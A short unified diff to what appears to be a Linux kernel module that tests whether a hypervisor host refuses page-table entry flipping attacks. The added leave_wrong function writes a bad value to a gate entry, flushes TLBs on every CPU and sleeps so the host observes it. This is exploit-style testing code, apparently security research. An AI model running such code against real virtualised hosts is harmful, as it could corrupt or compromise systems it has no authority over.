@@ -6,6 +6,7 @@
  */
 
 #include <linux/cpumask.h>
+#include <linux/delay.h>
 #include <linux/gfp.h>
 #include <linux/io.h>
 #include <linux/kthread.h>
@@ -16,6 +17,7 @@
 #include "attack.h"
 
 #define CALLS       1000000
+#define WRONG_S     3 /* in one second the host has seen all */
 #define AT_ONCE     1000
 #define ADDRESS     GENMASK_ULL(51, 12)
 #define PRESENT     BIT_ULL(0)
@@ -148,6 +150,18 @@ static void pass_gate(struct flips *f, const struct ping *ping)
 	}
 }
 
+/* Whenever the host looked, it may by chance have been right. */
+static void leave_wrong(struct flips *f)
+{
+	unsigned int i;
+
+	WRITE_ONCE(*f->of[GATE].entry, f->of[GATE].values[1]);
+	on_each_cpu(flush_all, f, 1);
+	/* Each time an exit or two: a CPU that does nothing makes none. */
+	for (i = 0; i < WRONG_S; i++)
+		msleep(MSEC_PER_SEC);
+}
+
 static enum outcome flip_entries(void)
 {
 	enum outcome outcome = ATTACK_IMPOSSIBLE;
@@ -168,6 +182,7 @@ static enum outcome flip_entries(void)
 	wake_up_process(flipper);
 	pass_gate(&f, &ping);
 	kthread_stop(flipper);
+	leave_wrong(&f);
 	set_cpus_allowed_ptr(current, cpu_online_mask);
 	outcome = ATTACK_REFUSED;
 	attack_note("%u calls, %lu flips", CALLS, f.count);
